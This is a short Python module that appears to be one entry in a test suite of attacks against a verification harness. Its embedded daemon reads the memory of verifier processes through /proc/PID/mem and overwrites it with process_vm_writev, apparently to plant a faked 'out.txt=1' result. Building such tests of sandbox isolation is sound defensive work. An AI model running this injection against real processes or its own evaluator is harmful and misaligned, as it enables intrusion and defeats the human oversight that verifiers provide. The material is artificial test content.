"""Reads and overwrites the verifier's memory by /proc/PID/mem and process_vm_writev.

Source: CVE-2012-0056 (mempodipper) and MITRE ATT&CK T1055.009 (injection through /proc).
"""

from attacks.frame import SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

for pid in verifiers():
    with contextlib.suppress(OSError):
        regions = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if " rw-p " in line]
        for begin, end in ((int(a, 16), int(b, 16)) for a, b in regions):
            with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                memory.seek(begin)
                keep(memory.read(end - begin))
            data = ctypes.create_string_buffer(b"out.txt=1")
            ours, theirs = Vector(ctypes.addressof(data), 9), Vector(begin, 9)
            libc.process_vm_writev(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)
"""),
    ran=SEEN,
)
